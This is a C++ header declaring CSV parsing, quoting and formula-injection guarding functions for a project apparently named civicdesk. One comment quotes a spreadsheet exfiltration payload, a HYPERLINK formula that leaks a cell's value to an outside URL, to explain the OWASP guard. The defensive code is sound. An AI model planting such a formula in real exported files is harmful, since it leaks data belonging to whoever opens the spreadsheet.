#ifndef CIVICDESK_CORE_CSV_H_
#define CIVICDESK_CORE_CSV_H_

#include <cstdint>
#include <functional>
#include <istream>
#include <string>
#include <string_view>
#include <vector>

#include "core/result.h"

namespace civicdesk {

// Streams the records of an RFC 4180 CSV file to `on_row` (row numbers from 1, the header),
// parsed by libcsv in strict mode. A quoting error is InvalidArgument naming the row; a non-Ok
// Status from `on_row` stops the parse and is returned. The cells are handed over as they are
// (a UTF-8 BOM stays on the first cell).
Status ForEachCsvRow(std::istream& input,
                     const std::function<Status(std::vector<std::string>&, int64_t)>& on_row);

// Removes a UTF-8 byte order mark from the start of `cell` (the first header cell of a file
// saved by Excel).
void StripUtf8Bom(std::string& cell);

// InvalidArgument naming "row N" when a row has a different number of cells than the header.
Status CheckCsvColumnCount(size_t cells, size_t header_cells, int64_t row);

// One CSV cell: quoted (with doubled quotes) when it holds a comma, a quote or a line break.
std::string CsvQuote(std::string_view text);

// The OWASP rule against formula injection in every CSV and TSV the system writes: a cell that
// starts with =, +, -, @, a tab or a carriage return gets a leading ' so that a spreadsheet
// reads it as text, never as a formula (=HYPERLINK("http://…?leak="&A1,…)). Only those ASCII
// characters at the very start count. In a number column (`number_column`) a plain number
// (IsPlainNumber: -5, 3.25) is left as it is; anything else there is guarded like any cell.
std::string GuardFormula(std::string_view cell, bool number_column = false);

// True when `cell` would be guarded by GuardFormula outside a number column.
bool StartsLikeFormula(std::string_view cell);

// A decimal number as the system writes them: an optional -, digits, an optional fraction and
// an optional exponent (-5, 12, 0.25, 1e+20).
bool IsPlainNumber(std::string_view cell);

// The inverse of GuardFormula for one of our own files read back (a register exported, edited
// and imported again): a ' in front of a character GuardFormula guards is removed.
void UnguardFormula(std::string& cell);

}  // namespace civicdesk

#endif  // CIVICDESK_CORE_CSV_H_
